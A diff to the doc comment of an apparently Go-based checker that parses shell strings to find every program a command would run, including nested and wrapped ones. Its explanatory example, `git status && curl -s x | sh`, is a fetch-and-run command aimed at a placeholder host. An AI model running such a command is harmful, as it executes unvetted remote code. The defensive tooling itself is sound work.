@@ -3,14 +3,18 @@
 // each executed program on its own.
 //
 // A string such as `git status && curl -s x | sh` is one request but runs three
-// programs; a checker that looks only at the first word allows all three. Read
-// parses with mvdan.cc/sh/v3/syntax and walks lists, pipelines, background
+// programs; a checker that looks only at the first word allows all three.
+// ReadIn parses with mvdan.cc/sh/v3/syntax in the dialect of the shell that
+// runs the string (POSIX sh as dash runs it, or bash; Read is bash), refuses
+// what that shell would run differently than it reads, and walks lists, pipelines, background
 // jobs, subshells, brace groups, control structures, function bodies, command
 // and process substitutions, nested `sh -c` strings, literal `eval` strings and
 // the programs that known exec wrappers (env, sudo, xargs, find -exec, …) start.
 // Quotes and escapes are resolved; whatever only the running shell could know
-// (an expansion in command position, `eval` of a variable, `${x@P}`) is marked
-// Undecidable so the caller escalates instead of guessing.
+// (an expansion in command position, `eval` of a variable, `${x@P}`, a shell
+// fed on its input, bash arithmetic on a value read at run time) is marked
+// Undecidable so the caller escalates instead of guessing. The programs whose
+// options run code are read by one option grammar (grammar.go).
 //
 // ReadArgv does the same for an argv run without a shell, and Starts and
 // StartsArgv say, without allocating, whether there is anything to find.
